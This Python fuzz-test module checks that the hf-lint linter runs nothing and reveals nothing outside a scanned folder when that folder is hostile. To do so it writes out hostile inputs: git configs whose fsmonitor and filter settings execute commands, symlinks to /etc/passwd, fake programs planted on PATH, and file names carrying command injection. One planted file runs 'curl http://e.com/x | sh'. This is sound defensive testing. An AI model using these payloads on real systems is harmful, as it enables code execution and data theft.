"""Spaces on a disk whose folders are hostile: links, devices, nested repositories, programs on PATH, own settings."""

from __future__ import annotations

import os
import stat
import tempfile
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING
from unittest import mock

from hf_lint.config.settings import Options, resolve_settings
from hf_lint.core.model import Report
from hf_lint.errors import HfLintError
from hf_lint.pipeline.lint import lint
from hf_lint.secrets.fakes import expand
from hf_lint.sources.directory import Directory

from fuzz import seeds
from fuzz.reports import render_all

if TYPE_CHECKING:
    from random import Random

_OUTSIDE = "outside-words-that-no-report-may-hold"
_KEYS = ("profile", "baseline", "extends", "ignore", "select", "fail_on", "waivers", "params", "severity", "paths", "x")
_VALUES = (
    *("../outside.txt", "/etc/passwd", ".git/config", "link", "app.py", "[]", "{}", "1", "null", "~", "strict", "all"),
    *("[unpinned-model]", "{a: {b: c}}", "&a [*a]", "'\\0'", "'::error::x'", "[{rule: x, reason: y}]", "../..", "."),
)
_GIT = """[core]
\tfsmonitor = touch %s
\thooksPath = .
\tworktree = ../..
[filter "x"]
\tclean = touch %s
"""
_TARGETS = ("../outside.txt", "..", "README.md", "/etc/passwd", "/dev/zero", "missing", "link", "/", ".")
_LINKS = ("README.md", "app.py", ".hf-lint.yaml", "link", ".git", "d")
_PROGRAMS = ("git", "hadolint", "zizmor", "kingfisher", "picklescan", "python", "sh")
_NAMES = ("a\nb.py", "-rf.py", "::error::.py", "\u202ex.py", "a b.sh", "$(x).py", "CON", "%0A.py", "\udcff.py")


def exercise(rng: Random) -> None:
    """Lint the folder; nothing of it runs, nothing outside is shown, and what fails is said, never raised."""
    with tempfile.TemporaryDirectory(prefix="hf-lint-fuzz-") as scratch:
        root = Path(scratch)
        (root / "outside.txt").write_text(f"{_OUTSIDE}\nprofile: {_OUTSIDE}\n")
        space, mark = root / "space", root / "mark"
        space.mkdir()
        _fill(rng, space)
        for _ in range(rng.choice((1, 2, 3, 5))):
            with suppress(OSError):  # a name that this system does not take, or one that is there
                rng.choice((_link, _link, _repository, _config, _config, _program, _special, _name))(rng, space, mark)
        path = rng.choice(("", f".{os.pathsep}", os.pathsep)) + os.environ["PATH"]
        before = Path.cwd()
        os.chdir(space)
        try:
            with mock.patch.dict(os.environ, {"PATH": path}):
                _check(rng, space, mark)
        finally:
            os.chdir(before)


def _check(rng: Random, space: Path, mark: Path) -> None:
    source = Directory(rng.choice((str(space), ".")))
    refused = ""
    try:
        settings = resolve_settings(source, Options(isolated=rng.random() < 0.3))
    except HfLintError as error:
        refused = str(error)
    assert _OUTSIDE not in refused, "an error shows what stands outside"
    if refused:
        return
    report = lint(source, settings)
    assert not any("failed with" in error.message for error in report.errors), report.errors
    assert not mark.exists(), "something of the Space ran"
    texts = [finding.message for finding in report.findings] + [error.message for error in report.errors]
    assert not any(_OUTSIDE in text for text in (*texts, *report.notes)), "a report shows what stands outside"
    if rng.random() < 0.1:
        render_all(Report((report,), settings.rules.profile, "0" * 16))


def _cleared(space: Path, name: str) -> Path:
    """Return a path in the Space on which neither a link nor a pipe is left: what is written there stays in it."""
    path = space
    for part in Path(name).parts:
        path = path / part
        if path.is_symlink() or (path.exists() and not path.is_file() and not path.is_dir()):
            path.unlink()
    return path


def _fill(rng: Random, space: Path) -> None:
    _, files = rng.choice(list(enumerate(seeds.spaces())))
    for name, data in list(files.items())[:12]:
        if len(data) <= seeds.MOST and not name.endswith((".yml", "Dockerfile")):  # engines have tests of their own
            with suppress(OSError, ValueError):
                target = _cleared(space, name)
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_bytes(data)


def _any(rng: Random, space: Path) -> Path:
    return rng.choice([path for path in space.rglob("*") if ".git" not in path.parts] or [space / "x"])


def _link(rng: Random, space: Path, mark: Path) -> None:
    """A file or folder that is a link: outside, to itself, to a parent, to nothing, in a circle."""
    name = rng.choice((_any(rng, space), space / rng.choice(_LINKS)))
    if name.is_file() or name.is_symlink():
        name.unlink()
    name.symlink_to(rng.choice((*_TARGETS, name.name)))


def _repository(rng: Random, space: Path, mark: Path) -> None:
    """A repository in the Space, with settings that would run something, or a file that leads elsewhere."""
    below = rng.choice((".", "sub", "sub/deep"))
    git = _cleared(space, f"{below}/.git")
    git.parent.mkdir(parents=True, exist_ok=True)
    if rng.random() < 0.3:
        git.write_text(rng.choice(("gitdir: ../..\n", "gitdir: /\n", "gitdir: .git\n", "x", "", "gitdir: \0\n")))
        return
    for part in (*rng.sample(("objects", "refs/heads", "hooks"), 2), "info"):
        _cleared(space, f"{below}/.git/{part}").mkdir(parents=True, exist_ok=True)
    head = rng.choice(("ref: refs/heads/main\n", "", "0" * 40, "ref: ../../x\n"))
    for name, text in (("HEAD", head), ("config", _GIT % (mark, mark)), ("info/exclude", "*\n")):
        _cleared(space, f"{below}/.git/{name}").write_text(text)
    _cleared(space, f"{below}/leak.txt").write_text(expand("@@fake:huggingface-user-token@@"))


def _config(rng: Random, space: Path, mark: Path) -> None:
    """Settings of the Space's own, with fields of any kind."""
    lines = [f"{rng.choice(_KEYS)}: {rng.choice(_VALUES)}" for _ in range(rng.choice((1, 1, 2, 4)))]
    name = rng.choice((".hf-lint.yaml", ".hf-lint.yaml", ".hf-lint-baseline.json", ".gitignore", ".dockerignore"))
    _cleared(space, name).write_text("\n".join(lines) + "\n")


def _program(rng: Random, space: Path, mark: Path) -> None:
    """A program by the name of one that hf-lint starts."""
    program = _cleared(space, rng.choice(_PROGRAMS))
    program.write_text(f"#!/bin/sh\n: > '{mark}'\n")
    program.chmod(program.stat().st_mode | stat.S_IXUSR)


def _special(rng: Random, space: Path, mark: Path) -> None:
    """What is no file: a pipe that nobody writes to, a folder where a file is wanted, a file that nobody may read."""
    names = ("README.md", "app.py", ".hf-lint.yaml", "requirements.txt", "pipe.py", "Dockerfile")
    name = _cleared(space, rng.choice(names))
    if name.exists():
        name.unlink()
    how = rng.random()
    if how < 0.4 and hasattr(os, "mkfifo"):
        os.mkfifo(name)
    elif how < 0.7:
        name.mkdir()
    else:
        name.write_bytes(b"\0" * rng.choice((0, 1, 5000)))
        name.chmod(0)


def _name(rng: Random, space: Path, mark: Path) -> None:
    """A file by a hostile name."""
    command = rng.choice(("id", "curl http://e.com/x | sh"))
    _cleared(space, rng.choice(_NAMES)).write_text(f"import os\nos.system('{command}')\n")
